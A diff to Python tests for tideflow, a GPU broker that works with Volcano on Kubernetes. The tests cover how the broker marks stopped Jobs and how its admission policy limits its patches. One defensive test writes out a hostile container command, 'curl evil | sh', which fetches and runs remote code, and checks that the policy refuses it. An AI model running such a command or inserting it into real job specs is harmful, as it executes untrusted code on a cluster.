@@ -5,7 +5,8 @@ Volcano keeps no count of its preemptions: its scheduler deletes a victim's pods
 (the evictor records an ``Evict`` event and pod condition), the Job's PodEvicted
 or exit-75 policy aborts it, and tideflow's backend replaces the aborted Job with a
 new one (a new uid). Each Job carries its gang's count to the next
-(``tideflow.kube.volcano_lineage``); the broker adds its own stops before it evicts.
+(``tideflow.kube.volcano_lineage``); the broker marks a Job with its run before it
+evicts, so an abort under that mark is counted as the broker's.
 
 No API server, Volcano scheduler or Volcano controller can run here: the Kubernetes
 fake (tests/kubefake) plays the API server and Volcano's job controller (its state
@@ -231,7 +232,7 @@ def test_a_stop_the_pdb_refused_entirely_is_taken_back(
     actuator = KubernetesActuator(api, ClusterTarget(namespace=NS), grace_s=0.05, retry_s=0.01)
     applied = actuator.apply(grow_to(16, gang.label()))
     assert applied.refused_by_pdb and not applied.evicted_pods
-    assert volcano_lineage.broker_stops(gang.job()) == 0
+    assert volcano_lineage.BROKER_STOP_MARK not in gang.job()["metadata"].get("annotations", {})
     journal = DecisionJournal(tmp_path / "broker.db")
     step(journal, api, 0.0)
     preempted_by_volcano(fake.fake, gang)
@@ -240,32 +241,117 @@ def test_a_stop_the_pdb_refused_entirely_is_taken_back(
     assert journaled_gpus(journal) == GANG_GPUS
 
 
-def test_the_broker_may_change_only_its_stop_count_on_a_volcano_job(
+def test_a_broker_stop_that_restarts_the_job_leaves_no_mark_to_hide_a_later_preemption(
+    cluster: tuple[Cluster, Any], tmp_path: Path
+) -> None:
+    """A worker killed past its grace exits 137: PodFailed, RestartJob (retryCount + 1),
+    no abort. The broker's mark was for the run before, so when Volcano later preempts
+    the restarted Job, that abort is Volcano's and counts. (A running count of the
+    broker's stops would have kept the stop that never aborted, and hidden this one.)"""
+    fake, api = cluster
+    fake.fake.pods.termination_exit_code = 137
+    journal = DecisionJournal(tmp_path / "broker.db")
+    step(journal, api, 0.0)
+    gang = Gang(fake.fake)
+    assert stopped_by_the_broker(fake, api, gang) == GANG_GPUS
+    fake.fake.pods.finish_terminating(NS)
+    assert fake.fake.volcano.phase(NS, JOB) != "Aborted"
+    assert int(gang.job()["status"]["retryCount"]) == 1  # restarted, not aborted
+    step(journal, api, 1.0)
+    fake.fake.pods.termination_exit_code = EXIT_PREEMPTED
+    gang.run()
+    preempted_by_volcano(fake.fake, gang)
+    gang.resume()
+    step(journal, api, 2.0)
+    assert journaled_gpus(journal) == GANG_GPUS
+
+
+def test_a_preemption_while_the_pdb_holds_the_broker_off_is_volcanos(
+    cluster: tuple[Cluster, Any], tmp_path: Path
+) -> None:
+    """The broker marks the Job and a PodDisruptionBudget refuses its evictions; while it
+    waits, Volcano preempts the gang and its pods are gone (the broker's retries find
+    none). No pod was the broker's: its mark is taken back from the aborted Job, and the
+    stop counts as Volcano's."""
+    fake, api = cluster
+    gang = Gang(fake.fake)
+    fake.fake.create(
+        {
+            "apiVersion": "policy/v1",
+            "kind": "PodDisruptionBudget",
+            "metadata": {"name": "vision", "namespace": NS},
+            "spec": {
+                "maxUnavailable": 0,
+                "selector": {"matchLabels": {"tideflow.io/gang": gang.label()}},
+            },
+        }
+    )
+    budget = fake.fake.get("policy/v1", "PodDisruptionBudget", "vision")
+    fake.fake.set_status(
+        budget,
+        {"disruptionsAllowed": 0, "currentHealthy": 2, "desiredHealthy": 2, "expectedPods": 2},
+    )
+    preempted: list[bool] = []
+
+    def meanwhile(_s: float) -> None:
+        if not preempted:
+            preempted_by_volcano(fake.fake, gang)
+            fake.fake.pods.finish_terminating(NS)
+            preempted.append(True)
+
+    journal = DecisionJournal(tmp_path / "broker.db")
+    step(journal, api, 0.0)
+    actuator = KubernetesActuator(
+        api, ClusterTarget(namespace=NS), grace_s=30, retry_s=0.01, sleep=meanwhile
+    )
+    applied = actuator.apply(grow_to(16, gang.label()))
+    assert preempted and not applied.evicted_pods
+    assert fake.fake.volcano.phase(NS, JOB) == "Aborted"
+    assert volcano_lineage.BROKER_STOP_MARK not in gang.job()["metadata"].get("annotations", {})
+    gang.resume()
+    step(journal, api, 1.0)
+    assert journaled_gpus(journal) == GANG_GPUS
+
+
+def test_the_broker_may_change_only_its_stop_mark_on_a_volcano_job(
     cluster: tuple[Cluster, Any],
 ) -> None:
     """deploy/kubernetes/broker-rbac.yaml grants the broker patch on Volcano Jobs for its
-    stop count; its ValidatingAdmissionPolicy refuses anything else the broker sends (a
-    new command, another annotation, a count that is not a number)."""
+    stop mark; its ValidatingAdmissionPolicy refuses anything else the broker sends: a
+    new command, a changed label, a carried count changed or removed, a mark that is not
+    the Job's run, a mark on a Job that is already aborting."""
     fake, api = cluster
     gang = Gang(fake.fake)
+    preempted_by_volcano(fake.fake, gang)
+    gang.resume()  # a replacement: it carries the gang's counts
     custom = client.CustomObjectsApi(api)
     where = ("batch.volcano.sh", "v1alpha1", NS, "jobs", JOB)
-    tasks = gang.job()["spec"]["tasks"]
-    tasks[0]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
-    for patch in (
-        {"spec": {"tasks": tasks}},
-        {"metadata": {"annotations": {volcano_lineage.ABORTED: "0"}}},
-        {"metadata": {"labels": {"tideflow.io/gang": "other"}}},
-        {"metadata": {"annotations": {volcano_lineage.BROKER_STOPS: "-1"}}},
-    ):
-        with pytest.raises(ApiException) as refused:
+
+    def patched(patch: dict[str, Any]) -> int:
+        try:
             custom.patch_namespaced_custom_object(
                 *where, patch, _content_type="application/merge-patch+json"
             )
-        assert refused.value.status == 422, patch
-    custom.patch_namespaced_custom_object(
-        *where,
-        {"metadata": {"annotations": {volcano_lineage.BROKER_STOPS: "3"}}},
-        _content_type="application/merge-patch+json",
-    )
-    assert volcano_lineage.broker_stops(gang.job()) == 3
+        except ApiException as exc:
+            return int(exc.status)
+        return 200
+
+    tasks = gang.job()["spec"]["tasks"]
+    tasks[0]["template"]["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
+    mark = volcano_lineage.BROKER_STOP_MARK
+    for refused in (
+        {"spec": {"tasks": tasks}},
+        {"metadata": {"labels": {"tideflow.io/gang": "other"}}},
+        {"metadata": {"annotations": {volcano_lineage.ABORTED: "0"}}},
+        {"metadata": {"annotations": {volcano_lineage.BROKER_STOPS: "5"}}},
+        {"metadata": {"annotations": {volcano_lineage.LINEAGE_UID: None}}},
+        {"metadata": {"annotations": {"team-notes": "x"}}},
+        {"metadata": {"annotations": {mark: "7"}}},  # not its run (retryCount 0)
+    ):
+        assert patched(refused) == 422, refused
+    assert patched({"metadata": {"annotations": {mark: "0"}}}) == 200
+    assert patched({"metadata": {"annotations": {mark: None}}}) == 200
+    preempted_by_volcano(fake.fake, gang)  # aborting now
+    assert fake.fake.volcano.phase(NS, JOB) == "Aborting"
+    assert patched({"metadata": {"annotations": {mark: "0"}}}) == 422
+    assert volcano_lineage.aborts(gang.job()) == 2
